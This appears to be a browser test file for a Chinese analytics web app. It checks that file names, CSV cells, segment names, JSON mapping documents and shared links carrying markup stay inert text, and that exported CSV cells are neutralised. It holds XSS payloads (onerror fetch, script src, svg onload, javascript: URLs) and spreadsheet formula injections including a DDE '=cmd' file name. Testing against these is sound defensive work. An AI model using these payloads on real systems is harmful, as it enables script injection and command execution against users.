// Data that would like to be code: files whose names, headers, cells and event names carry markup, addresses and formulas, and what else a reader is
// sent or writes: names of segments, mapping documents, questions, addresses. The page shows them as
// the text that they are, in every report that they reach: no element is made of them, nothing of them runs, and the listener hears nothing.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, test } from 'node:test';
import { crc32, deflateRawSync } from 'node:zlib';
import { Ear } from './listener.mjs';
import { Browser, closeServers, write } from './places.mjs';

after(closeServers);

const hostile = (to) => [
  `<img src=${to.http}/img onerror="fetch('${to.http}/onerror')">`,
  `"><script src=${to.http}/x.js></script>`,
  `<svg onload=globalThis.ran=1><image href=${to.http}/svg /></svg>`,
  `<meta http-equiv=refresh content="0;url=${to.http}/refresh">`,
  `javascript:globalThis.ran=1`,
  `=HYPERLINK("${to.http}/formula","x")`,
  `=WEBSERVICE("${to.http}/webservice")`,
  `url(${to.http}/css)`,
  `<link rel=dns-prefetch href=${to.http}/dns>`,
  `{"$ref":"${to.http}/ref"}`,
  `<?xml-stylesheet href="${to.http}/xsl"?><!DOCTYPE a SYSTEM "${to.http}/dtd">`,
];
const quote = (text) => `"${text.replaceAll('"', '""')}"`;

// Elements that only markup out of data could have made.
const foreign = () => ({
  made: document.querySelectorAll('main img, main script, main iframe, main object, main embed, main link, main meta, main image, main a[href^="http"], main a[href^="javascript"]').length,
  ran: globalThis.ran ?? 0,
});

for (const origin of ['file', 'http']) {
  test(`hostile names, headers and cells stay text, ${origin}`, async () => {
    const browser = await Browser.start(`hostile-${origin}`);
    const ear = await Ear.open();
    const bad = hostile(ear.target('hostile'));
    const lines = [['客户ID', '事件', '时间', ...bad].map(quote).join(',')];
    for (let n = 0; n < 120; n++) {
      const evil = bad[n % bad.length];
      lines.push([n % 3 === 0 ? `${evil}${n % 9}` : `U${n % 30}`, n % 4 === 0 ? evil : ['关注', '扫码'][n % 2], `2026-03-${String(1 + (n % 20)).padStart(2, '0')} 10:00:00`, ...bad.map(() => evil)].map(quote).join(','));
    }
    const events = write(`<img src=x onerror=globalThis.ran=1>${origin}.csv`, `${lines.join('\n')}\n`);
    const orders = ['订单号,下单时间,付款时间,实付金额,手机号,商品名称'];
    for (let n = 0; n < 60; n++) orders.push([`A${n}${bad[n % bad.length]}`, '2026-03-02 10:00:00', '2026-03-02 10:05:00', `${10 + n}.50`, `138000000${10 + n}`, bad[(n + 3) % bad.length]].map(quote).join(','));
    const sales = write(`=cmd|' -C calc'!A0 ${origin}.csv`, `${orders.join('\n')}\n`);

    const here = await browser.open('product', origin, 'frame');
    const app = here.page.frameLocator('iframe');
    here.page.context().setDefaultTimeout(60_000);
    here.page.on('filechooser', () => {});
    const chooser = here.page.waitForEvent('filechooser');
    await app.getByRole('button', { name: '选择文件' }).first().click();
    await (await chooser).setFiles([events, sales]);
    await app.getByRole('button', { name: /^导入(全部| \d+ 个就绪的)$/ }).click();
    await app.locator('.coming').getByRole('button', { name: '导入', exact: true }).click();
    await app.getByRole('button', { name: '撤销这次导入' }).waitFor();

    const names = await app.getByRole('navigation', { name: '报表' }).getByRole('button').allInnerTexts();
    assert.ok(names.length >= 5, names.join(' '));
    let seen = '';
    for (const name of names) {
      await app.getByRole('navigation', { name: '报表' }).getByRole('button', { name, exact: true }).click();
      await app.locator('main[aria-busy=true], article[aria-busy=true]').waitFor({ state: 'detached' }).catch(() => {});
      await here.page.waitForTimeout(300);
      assert.deepEqual(await here.realm.evaluate(foreign), { made: 0, ran: 0 }, name);
      seen += await here.realm.evaluate(() => document.body.innerText);
    }
    assert.ok(seen.includes('<img src=') && seen.includes('=WEBSERVICE('), 'the reports did show the hostile texts');

    // What a reader writes or is sent: names of segments, a mapping document, a question, an address.
    await app.getByRole('navigation', { name: '报表' }).getByRole('button', { name: '人群分层', exact: true }).click();
    for (const name of bad.slice(0, 5)) {
      await app.getByRole('button', { name: '新建人群' }).click();
      await app.locator('.builder-foot').getByLabel('名称').fill(name);
      await here.page.keyboard.press('ControlOrMeta+s');
      await app.locator('.segment-list tbody tr').filter({ hasText: name }).waitFor();
    }
    assert.deepEqual(await here.realm.evaluate(foreign), { made: 0, ran: 0 }, 'segments');
    const documents = [
      write(`<img src=x onerror=globalThis.ran=1>${origin}.json`, JSON.stringify({ version: 1, files: bad.map((text) => ({ match: { name: text, headers: [text] }, table: 'events', zone: '+08:00', columns: { 'event.name': text, [text]: text }, values: { [text]: { [text]: text } } })) })),
      write(`${origin}-question.json`, JSON.stringify({ version: 1, analysis: bad[0], title: bad[1], range: { zone: bad[2] }, where: { field: bad[3], op: bad[4], value: bad }, params: { steps: bad.map((text) => ({ name: text, event: text })) }, people: { segment: bad[5] } })),
    ];
    await app.getByRole('navigation').getByText('导入', { exact: true }).click();
    const more = here.page.waitForEvent('filechooser');
    await app.getByRole('button', { name: '选择文件' }).or(app.getByRole('button', { name: '再加文件' })).first().click();
    await (await more).setFiles(documents);
    await app.getByRole('article', { name: 'question.json' }).waitFor();
    await here.page.waitForTimeout(500);
    // Links: two that are none, and one that is whole and carries a hostile question.
    const question = { version: 1, analysis: 'funnel', title: bad[1], range: { zone: bad[2], from: bad[3] }, params: { steps: bad.map((text) => ({ event: text, label: text })), window: bad[4] } };
    const packed = deflateRawSync(Buffer.from(JSON.stringify(question))).toString('base64url');
    const link = `#v1.d.${packed.length.toString(36)}.${crc32(packed).toString(36).padStart(7, '0')}.${packed}`;
    for (const [text, shown] of [[`#v1.d.1.${bad[0]}`, '.broken'], ['#v1.r.1.0000000.e30', '.broken'], [link, '.opened-banner']]) {
      await here.page.evaluate((fragment) => { location.hash = fragment; }, text);
      await app.locator(`.opened ${shown}`).waitFor();
      assert.deepEqual(await here.realm.evaluate(foreign), { made: 0, ran: 0 }, text.slice(0, 40));
    }
    assert.ok((await here.realm.evaluate(() => document.body.innerText)).includes('<img src='), 'the link did show the hostile texts');
    await app.getByRole('button', { name: '关闭，回到自己的报表' }).click();
    assert.deepEqual(await here.realm.evaluate(foreign), { made: 0, ran: 0 }, 'documents and addresses');

    // People leave the page by the user's own hand; a spreadsheet must not run them.
    await app.getByRole('navigation', { name: '报表' }).getByRole('button', { name: '数据体检', exact: true }).click();
    const download = here.page.waitForEvent('download');
    await app.getByRole('button', { name: 'CSV' }).first().click();
    const saved = readFileSync(await (await download).path(), 'utf8');
    for (const cell of saved.replace('\ufeff', '').split(/,|\r\n/)) assert.doesNotMatch(cell, /^"?[=@]/);

    await here.page.waitForTimeout(500);
    assert.deepEqual([ear.bytes, ear.connections], [0, 0], ear.first);
    assert.equal(here.page.url().split('#')[0].startsWith(origin === 'file' ? 'file:' : 'http://127.0.0.1'), true);
    await here.close();
    const log = await browser.end();
    assert.deepEqual([...log.names], []);
    ear.close();
  });
}
